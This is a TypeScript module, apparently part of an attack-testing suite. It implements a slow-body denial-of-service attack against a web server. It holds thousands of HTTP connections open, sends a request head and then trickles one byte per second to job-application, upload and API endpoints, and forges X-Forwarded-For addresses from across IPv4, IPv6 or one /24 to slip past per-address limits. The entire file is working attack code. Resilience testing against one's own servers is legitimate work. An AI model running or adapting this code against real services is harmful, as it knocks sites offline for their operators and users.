import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import type { Attacked } from "./attacks-made.ts";

/** How many bodies come at once, each a byte in a second. */
const most = 4000;
/** So many new ones in a tenth of a second. */
const begun = 200;

const kinds = [
  (opening: string) => [
    "POST",
    `/de/careers/de/job-application/${opening}?country=de`,
    "multipart/form-data; boundary=b",
  ],
  () => ["GET", "/health?/job-application/a", "text/plain"],
  () => ["POST", "/api/uploads", "multipart/form-data; boundary=b"],
  () => ["POST", "/api/jobapp/attachment/cv", "application/json"],
] as const;

/** An address of the whole of IPv4, or, one in two, a /64 of the whole of IPv6; the server has to trust who says so. */
function anyAddress(): string {
  const byte = (): number => Math.floor(Math.random() * 256);
  if (Math.random() < 0.5) return `${1 + Math.floor(Math.random() * 223)}.${byte()}.${byte()}.${byte()}`;
  const group = (): string => Math.floor(Math.random() * 65_536).toString(16);
  return `2a00:${group()}:${group()}:${group()}::1`;
}

/** Sends the head of a request and one byte of its body. */
function begin({ address, opening }: Attacked, number: number, from: string): Socket {
  const { hostname, port } = new URL(address);
  const [method, path, type] = (kinds[number % kinds.length] ?? kinds[0])(opening);
  const socket = connect(Number(port), hostname, () =>
    socket.write(
      `${method} ${path} HTTP/1.1\r\nHost: ${hostname}\r\nX-Forwarded-For: ${from}\r\nContent-Type: ${type}\r\nContent-Length: 90000\r\n\r\n-`,
    ),
  );
  return socket.on("error", () => undefined).resume();
}

/** Keeps 4,000 bodies under way, each a byte in a second; one that is ended is begun again. Answers how many were begun. */
async function trickle(attacked: Attacked, addressOf: () => string): Promise<() => Promise<number>> {
  const open = new Set<Socket>();
  let count = 0;
  const work = async (): Promise<void> => {
    let dripped = performance.now();
    while (performance.now() < attacked.until) {
      for (let some = 0; some < begun && open.size < most; some += 1) {
        const socket = begin(attacked, count, addressOf());
        count += 1;
        open.add(socket);
        socket.once("close", () => open.delete(socket));
      }
      if (performance.now() - dripped > 1000) {
        dripped = performance.now();
        for (const socket of open) socket.write("-");
      }
      await pause(100);
    }
    for (const socket of open) socket.destroy();
  };
  const all = work();
  return async () => {
    await all;
    return count;
  };
}

/** Bodies that hardly come, of every address there is and of one /24: forms, uploads, calls, and a GET that has one. */
export const attacksOnBodies = {
  bodies: (attacked: Attacked) => trickle(attacked, anyAddress),
  bodiesOfOneNetwork: (attacked: Attacked) => trickle(attacked, () => `203.0.113.${Math.floor(Math.random() * 256)}`),
};
